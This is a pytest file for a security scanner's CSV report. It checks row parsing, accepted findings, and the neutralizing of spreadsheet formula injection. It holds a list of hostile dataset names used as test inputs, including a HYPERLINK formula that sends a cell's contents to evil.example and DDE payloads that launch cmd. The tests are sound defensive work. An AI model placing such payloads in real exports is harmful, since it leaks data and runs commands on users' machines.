"""CSV of a scan: one row per finding, parses back, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from tests.fixed_report import fixed_report
from unguarded.models import Acceptance, Report
from unguarded.report import FORMATS
from unguarded.report.csv import COLUMNS, neutralize, render

from .helpers import check_snapshot

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def test_snapshot() -> None:
    check_snapshot("report.csv", render(fixed_report()))


def test_parses_back_one_row_per_finding() -> None:
    report = fixed_report()
    rows = _rows(FORMATS["csv"](report))
    assert len(rows) == len(report.findings) == 13
    services = {(s.host, s.port): s for s in report.services}
    for row, finding in zip(rows, report.findings, strict=True):
        assert (row["fingerprint"], row["rule_id"], row["type"], row["severity"]) == (
            finding.fingerprint,
            finding.rule_id,
            finding.type,
            finding.severity.value,
        )
        assert (row["host"], int(row["port"]), row["engine"]) == (finding.host, finding.port, finding.engine)
        assert row["dataset"] == (finding.dataset or "")
        assert row["records"] == ("" if finding.records is None else str(finding.records))
        assert row["people"] == ("" if finding.people is None else str(finding.people))
        assert [c for c in row["categories"].split(";") if c] == list(finding.categories)
        assert [p for p in row["patterns"].split(";") if p] == list(finding.patterns)
        service = services[(finding.host, finding.port)]
        assert (row["exposure"], row["access"]) == (service.exposure.value, service.access.value)
        assert row["compromised"] == ("true" if service.compromised else "false")
        assert finding.remediation is not None and row["remediation"] == finding.remediation.summary
        assert row["accepted"] == row["accepted_until"] == ""
    # service-wide findings have an empty dataset cell, data findings name theirs
    assert {r["type"] for r in rows if not r["dataset"]} == {
        "tracking_system",
        "open_service",
        "compromised",
        "default_credentials",
        "unknown_exposure",
    }
    assert {r["type"] for r in rows if r["dataset"]} == {"exposed_sensitive_data", "exposed_personal_data"}


def test_an_accepted_finding_keeps_its_row_with_the_reason() -> None:
    report = fixed_report()
    acceptance = Acceptance(reason="decoy for the red team", expires=dt.date(2027, 3, 1))
    first, *rest = report.findings
    accepted = report.model_copy(update={"findings": (first.model_copy(update={"accepted": acceptance}), *rest)})
    rows = _rows(render(accepted))
    assert len(rows) == len(report.findings)
    assert (rows[0]["accepted"], rows[0]["accepted_until"]) == ("decoy for the red team", "2027-03-01")
    assert all(r["accepted"] == "" for r in rows[1:])


def test_an_empty_report_is_just_the_header() -> None:
    text = render(fixed_report(services=(), errors=()))
    assert _rows(text) == [] and text.count("\n") == 1


HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "a;=1+1",
)


def _hostile() -> Report:
    base = fixed_report().services[0]
    template = base.datasets[0]
    datasets = tuple(template.model_copy(update={"name": name}) for name in HOSTILE)
    service = base.model_copy(update={"datasets": datasets, "links": (), "patterns": ()})
    return fixed_report(services=(service,), errors=())


def test_formula_injection_from_dataset_names_is_neutralized() -> None:
    report = _hostile()
    text = render(report)
    rows = _rows(text)
    assert len(rows) == len(report.findings) == 1 + len(HOSTILE)
    by_name = {r["dataset"]: r for r in rows if r["dataset"]}
    for name in HOSTILE:
        expected = name if name.startswith("a;") else "'" + name
        assert expected in by_name, name
    # no cell anywhere starts like a formula, and every text cell is quoted (a ';' locale cannot split it)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.lstrip(" ").startswith(TRIGGERS), cell
    assert '"a;=1+1"' in text


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =x", "' =x"),
        ("tracking.people", "tracking.people"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralize(cell: str, expected: str) -> None:
    assert neutralize(cell) == expected
